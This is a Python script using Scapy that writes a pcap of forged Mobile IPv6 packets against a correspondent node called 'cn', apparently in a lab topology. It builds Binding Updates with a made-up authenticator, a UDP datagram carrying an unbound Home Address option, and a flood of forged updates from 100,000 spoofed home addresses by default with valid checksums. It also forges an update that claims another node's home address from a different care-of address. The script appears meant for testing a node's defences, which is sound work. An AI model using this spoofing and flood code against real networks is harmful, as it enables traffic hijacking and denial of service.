"""Attacks on the default world's correspondent node cn, written as a pcap to inject on cn-link
(RFC 6275 §5.2, §9.3.1, §9.5.1): Scapy builds one forged correspondent Binding Update (Nonce Indices,
an authenticator no key made) and a UDP datagram with a Home Address option but no binding; then, as
raw bytes with the Mobility Header checksum computed here, a flood of forged updates from FLOOD home
addresses, and one that claims mn's home address from another care-of address. Usage: cn-attacks.py
OUT.pcap [FLOOD]."""
import struct
import sys
from socket import AF_INET6, inet_pton

from scapy.all import Ether, IPv6, IPv6ExtHdrDestOpt, HAO, UDP, MIP6MH_BU, raw
from scapy.layers.inet6 import MIP6OptNonceIndices, MIP6OptBindingAuthData

CN, CN_MAC, ME_MAC = '2001:db8:4::ff:fe00:9', '02:00:00:00:00:09', '02:00:00:00:00:99'


def forged_bu(hoa, coa, seq):
    return Ether(src=ME_MAC, dst=CN_MAC) / IPv6(src=coa, dst=CN) / IPv6ExtHdrDestOpt(options=[HAO(hoa=hoa)]) / \
        MIP6MH_BU(seq=seq, flags='A', mhtime=100, options=[MIP6OptNonceIndices(olen=4, hni=0, coni=0),
                                                           MIP6OptBindingAuthData(olen=12, authenticator=0x0102030405060708090a0b0c)])


def checksum(data):
    if len(data) % 2:
        data += b'\0'
    s = sum(struct.unpack('!%dH' % (len(data) // 2), data))
    while s >> 16:
        s = (s & 0xffff) + (s >> 16)
    return (~s) & 0xffff


def main(out, flood):
    frames = [raw(forged_bu('2001:db8:1::66', '2001:db8:2::66', 1)),
              raw(forged_bu('2001:db8:1::ff:fe00:b', '2001:db8:3::66', 40000)),  # mn's home address, another care-of address
              raw(Ether(src=ME_MAC, dst=CN_MAC) / IPv6(src='2001:db8:2::77', dst=CN)
                  / IPv6ExtHdrDestOpt(options=[HAO(hoa='2001:db8:1::77')]) / UDP(sport=9, dport=9) / b'no binding')]
    template = bytearray(frames[0])
    hao_at = 14 + 40 + 8  # Ethernet, IPv6; the Destination Options header, a PadN, the option type and length
    mh_at = 14 + 40 + 24
    for i in range(flood):
        f = bytearray(template)
        hoa = inet_pton(AF_INET6, '2001:db8:1::')[:8] + struct.pack('!Q', 0x100000000 + i)
        f[hao_at:hao_at + 16] = hoa
        mh = bytearray(f[mh_at:])
        mh[4:6] = b'\0\0'
        pseudo = hoa + inet_pton(AF_INET6, CN) + struct.pack('!I', len(mh)) + b'\0\0\0\x87'
        struct.pack_into('!H', mh, 4, checksum(pseudo + bytes(mh)))
        f[mh_at:] = mh
        frames.append(bytes(f))
    with open(out, 'wb') as w:
        w.write(struct.pack('<IHHiIII', 0xa1b2c3d4, 2, 4, 0, 0, 65535, 1))
        for n, f in enumerate(frames):
            w.write(struct.pack('<IIII', 1000, n, len(f), len(f)))  # a microsecond apart
            w.write(f)


if __name__ == '__main__':
    main(sys.argv[1], int(sys.argv[2]) if len(sys.argv) > 2 else 100000)
